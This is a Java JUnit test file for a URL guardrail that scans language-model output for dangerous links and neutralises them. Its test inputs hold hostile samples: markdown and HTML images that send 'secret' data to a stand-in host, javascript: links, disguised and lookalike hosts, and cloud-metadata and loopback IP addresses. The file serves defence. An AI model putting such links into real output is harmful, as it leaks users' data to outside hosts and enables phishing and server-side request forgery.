package dev.llmops4j.guardrails.check;

import static org.assertj.core.api.Assertions.assertThat;

import dev.llmops4j.guardrails.Boundary;
import dev.llmops4j.guardrails.Finding;
import dev.llmops4j.guardrails.GuardrailOptions;
import dev.llmops4j.guardrails.Stage;
import dev.llmops4j.guardrails.StreamingCheck;
import dev.llmops4j.guardrails.Verdict;
import dev.llmops4j.guardrails.testing.NothingFound;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UrlsTest {
    private static final Boundary AT = Boundary.of(Stage.OUTPUT);
    private static final Urls ANY = Urls.create();
    private static final Urls LISTED =
            Urls.of(List.of("good.example"), List.of("bad.good.example"), Urls.Action.REMOVE, Urls.Action.REMOVE);

    private static String cleaned(Urls urls, String text) {
        return urls.check(text, AT) instanceof Verdict.Rewrite rewrite ? rewrite.text() : text;
    }

    private static List<String> kinds(Urls urls, String text) {
        return urls.check(text, AT).findings().stream().map(Finding::kind).toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.test/?q=secret)",
                "![x]( <https://evil.test/?q=secret> \"title\")",
                "![a [b] c](https://evil.test/p/secret.png)",
                "[![x](https://evil.test/i.png)](/home)",
                "[![x](/i.png)](/home) ![y](//evil.test/secret)",
                "![x](HTTPS:\\\\evil.test\\secret)",
                "![x](https:/evil.test/secret)",
                "![x][r]\n\n[r]: https://evil.test/secret",
                "<img src=\"https://evil.test/secret\">",
                "<IMG alt='a' SRC = 'https://evil.test/secret'>",
                "<img src=https://evil.test/secret>",
                "<img srcset=\"https://evil.test/a 1x, https://evil.test/b 2x\">",
                "<video poster=\"https://evil.test/secret\">",
                "<div style=\"background:url(https://evil.test/secret)\">",
                "<div style=\"background: url('https://evil.test/secret')\">",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "![x](https://secret.evil.test)",
                "![x](https://good.example@evil.test/)",
                "![x](&#104;ttps://evil.test/)"
            })
    void removesTheUrlsOfImagesFromOtherHosts(String text) {
        assertThat(cleaned(ANY, text))
                .contains("about:blank")
                .doesNotContain("evil.test")
                .doesNotContain("PHN2Zz4");
        assertThat(cleaned(LISTED, text)).contains("about:blank").doesNotContain("evil.test");
        Chunked.givesTheSame(ANY, AT, text, 3);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://good.example/i.png?w=3)",
                "![x](https://img.good.example:8443/i.png)",
                "![x](HTTPS://GOOD.EXAMPLE./i.png)",
                "![x](/local.png) ![y](i.png?a=1&t=10:30) ![z](#a)",
                "<img src=\"/local.png\"> <a href=\"mailto:ann@good.example\">",
                "See https://good.example/a(b)c, or (https://good.example).",
                "a ws: b, https: c, f(x)[1](y) and url = 5; src = file; x[0]: 3",
            })
    void leavesAllowedHostsAndPlainTextAlone(String text) {
        assertThat(LISTED.check(text, AT)).isEqualTo(Verdict.PASS);
    }

    @ParameterizedTest
    @CsvSource({
        "'[a](javascript:alert(1))', urls.scheme",
        "'<a href=\"vbscript:x\">', urls.scheme",
        "'<a href=\"data:text/html,x\">', urls.scheme",
        "'[a](https://good.example@evil.test/x)', urls.userinfo",
        "'https://good.example:443@evil.test', urls.userinfo",
        "'[a](https://evil.test\\\\.good.example)', urls.disguised_host",
        "'[a](https://ev%69l.test/)', urls.disguised_host",
        "'[a](java&#115;cript:alert(1))', urls.disguised_host",
        "'http://169.254.169.254/latest', urls.ip_address",
        "'http://2130706433/', urls.ip_address",
        "'http://0x7f.0.0.0x1/', urls.ip_address",
        "'http://[::1]/', urls.ip_address",
        "'https://аpple.com/', urls.lookalike_host",
        "'https://xn--pple-43d.com/', urls.lookalike_host",
        "'https://bad.good.example/', urls.denied_host",
        "'https://a.bad.good.example/', urls.denied_host",
        "'https://notgood.example/', urls.unlisted_host",
        "'https://good.example.evil.test/', urls.unlisted_host",
        "'ftp://good.example/', urls.scheme"
    })
    void saysWhatIsWrongWithALink(String text, String kind) {
        assertThat(kinds(LISTED, text)).containsExactly(kind);
        Chunked.givesTheSame(LISTED, AT, text, 5);
    }

    @Test
    void flagsLinksThatCarryDataWhereNoHostIsListed() {
        assertThat(kinds(ANY, "[more](https://site.test/?d=" + "ab1".repeat(40) + ")"))
                .containsExactly("urls.data_in_link");
        assertThat(kinds(ANY, "https://" + "abcd1234".repeat(6) + ".site.test/"))
                .containsExactly("urls.data_in_link");
        assertThat(ANY.check("See [this](https://site.test/a?b=c#d).", AT)).isEqualTo(Verdict.PASS);
    }

    @Test
    void findsTheUrlAndNotThePunctuationAroundIt() {
        String text = "Go to (https://evil.test/a), now.";

        assertThat(LISTED.check(text, AT).findings()).containsExactly(Finding.of("urls.unlisted_host", 7, 26));
        assertThat(cleaned(LISTED, text)).isEqualTo("Go to (about:blank), now.");
    }

    @Test
    void releasesNothingOfAUrlBeforeItIsJudged() {
        StreamingCheck check = ANY.streaming(AT);
        var sink = new NothingFound();
        check.accept("Look: ![x](https://evil.te", sink);
        assertThat(check.settled()).isEqualTo("Look: ![x](".length());
        check.accept("st/?q=secret", sink);
        assertThat(check.settled()).isEqualTo("Look: ![x](".length());
    }

    @Test
    void holdsBackNoProse() {
        StreamingCheck check = ANY.streaming(AT);
        int read = 0;
        for (char c : "With the wind from the west, what follows here is fine. "
                .repeat(5)
                .toCharArray()) {
            check.accept(String.valueOf(c), new NothingFound());
            read++;
            assertThat(read - check.settled()).isLessThan(4);
        }
    }

    @Test
    void leavesNoHostOfAnEndlessUrl() {
        String text = "![x](https://evil.test/" + "a".repeat(10_000) + ")";

        assertThat(cleaned(ANY, text)).startsWith("![x](about:blank").doesNotContain("evil");
        Chunked.givesTheSame(ANY, AT, text.substring(0, 3_000), 1);
    }

    @ParameterizedTest
    @Timeout(60)
    @ValueSource(
            strings = {
                "h",
                "https://",
                "[",
                "](",
                "![](",
                "src=",
                "<img src=\"",
                "https://a.",
                "[]: ",
                "url(",
                "w",
                "(",
                ")"
            })
    void readsRepeatedBeginningsInTime(String beginning) {
        assertThat(ANY.check(beginning.repeat(200_000 / beginning.length()), AT))
                .isNotNull();
    }

    @Test
    void readsRandomTextsAsTheirPieces() {
        String[] parts = {
            "![",
            "](",
            "https://",
            "evil.test",
            "/",
            ")",
            " ",
            "\"",
            "<img src=",
            "]:",
            "@",
            "\\",
            "[",
            "é",
            "\uD83D",
            "url(",
            "javascript:",
            "&#",
            "x",
            "\n"
        };
        for (long seed = 0; seed < 300; seed++) {
            var random = new Random(seed);
            var text = new StringBuilder();
            for (int i = 0; i < 30; i++) {
                text.append(parts[random.nextInt(parts.length)]);
            }
            Chunked.givesTheSame(ANY, AT, text.toString(), seed);
        }
    }

    @Test
    void readsItsOptions() {
        Urls blocking = Urls.create(GuardrailOptions.of(Map.of(
                "allow", List.of("good.example"), "deny", "evil.test", "schemes", List.of("https"), "links", "block")));

        assertThat(blocking.check("https://evil.test", AT)).isInstanceOf(Verdict.Block.class);
        assertThat(blocking.check("![x](https://a.test)", AT)).isInstanceOf(Verdict.Rewrite.class);
        assertThat(kinds(blocking, "http://good.example")).containsExactly("urls.scheme");
        assertThat(blocking.stages()).isEqualTo(Stage.OUTBOUND);
        assertThat(Objects.requireNonNull(blocking.name())).isEqualTo("urls");
    }
}
